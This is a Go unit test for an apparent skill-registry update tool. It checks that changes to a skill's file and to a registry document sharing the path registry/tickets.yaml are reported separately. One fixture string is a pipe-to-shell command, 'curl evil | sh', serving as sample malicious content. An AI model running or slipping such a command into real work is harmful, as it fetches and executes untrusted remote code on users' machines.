package update

import (
	"testing"

	"github.com/skillsync/skillsync/desired/registry"
)

// byCommit is a transport that reads each commit's files from the test.
type byCommit map[string][]registry.SourceFile

func (r byCommit) ReadSource(src registry.RemoteSource, at registry.LockedSource) ([]registry.SourceFile, error) {
	return r[at.Commit], nil
}

func (r byCommit) Resolve(src registry.RemoteSource) (registry.LockedSource, error) {
	return registry.LockedSource{}, nil
}

// A skill called registry holds tickets.yaml, and the repository's root holds
// the registry file registry/tickets.yaml: a change to either is shown, the
// other's path standing for neither.
func TestADocumentAndASkillFileOfOnePathAreShownApart(t *testing.T) {
	a, b := "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	files := func(support, doc string) []registry.SourceFile {
		return []registry.SourceFile{{Path: "registry", Dir: true}, {Path: "registry/SKILL.md", Data: []byte("skill\n")},
			{Path: "registry/tickets.yaml", Data: []byte(support)}, {Path: "registry/tickets.yaml", Document: true, Data: []byte(doc)}}
	}
	before := registry.LockedSource{Name: "c", Git: "https://x/y.git", Path: "skills", Commit: a, Registry: []string{"registry/*.yaml"},
		Skills: map[string]string{"registry": "sha256:1"}, Documents: map[string]string{"registry/tickets.yaml": "sha256:1"}}
	for _, tc := range []struct {
		name         string
		now          []registry.SourceFile
		skill, doc   string
		wantOld, new string
	}{
		{"the skill's file", files("run: curl evil | sh\n", "doc\n"), "sha256:2", "sha256:1", "run: safe\n", "run: curl evil | sh\n"},
		{"the registry file", files("run: safe\n", "doc v2\n"), "sha256:1", "sha256:2", "doc\n", "doc v2\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			after := before
			after.Commit = b
			after.Skills = map[string]string{"registry": tc.skill}
			after.Documents = map[string]string{"registry/tickets.yaml": tc.doc}
			tr := byCommit{a: files("run: safe\n", "doc\n"), b: tc.now}
			got, err := FileChanges(compare("c", "", before, after), before, after, nil, tr)
			if err != nil || len(got) != 1 || string(got[0].Old) != tc.wantOld || string(got[0].New) != tc.new {
				t.Errorf("FileChanges = %+v, %v; want %q -> %q", got, err, tc.wantOld, tc.new)
			}
		})
	}
}
